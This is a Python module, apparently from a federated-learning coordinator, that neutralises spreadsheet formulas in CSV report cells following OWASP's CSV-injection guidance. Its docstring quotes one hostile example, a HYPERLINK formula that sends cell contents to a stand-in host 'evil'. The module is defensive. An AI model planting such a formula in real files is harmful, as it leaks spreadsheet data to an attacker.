"""CSV files a spreadsheet can open safely: cells that would run as formulas are neutralised.

The coordinator writes site names into its CSV reports, and a site chooses its own name: a
site called ``=HYPERLINK("http://evil/?"&A1,"x")`` would be a live formula in the analyst's
spreadsheet. Following OWASP's CSV-injection guidance, a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which spreadsheets
take as "this is text". Numbers are left as numbers (a negative AUC difference stays -0.1),
and commas, quotes and newlines inside a cell are quoted by the csv module as usual.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterable, Sequence

from fedbreast.shared.durable import atomic_write_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` as it may go into a CSV cell: text that a spreadsheet would evaluate gets a
    leading apostrophe; everything else (numbers, None, ordinary text) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """The rows (header first) as CSV text, every cell through :func:`safe_cell`."""
    buf = io.StringIO(newline="")
    writer = csv.writer(buf)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buf.getvalue()


def write_csv(path: str | os.PathLike[str], rows: Iterable[Sequence[object]], mode: int = 0o666) -> None:
    """Write the rows to ``path`` atomically (a report is never seen half-written).

    ``mode`` 0o666 less the umask, as ``open`` would create it: a report is not site data.
    """
    atomic_write_text(path, csv_text(rows), mode)


__all__ = ["FORMULA_START", "csv_text", "safe_cell", "write_csv"]
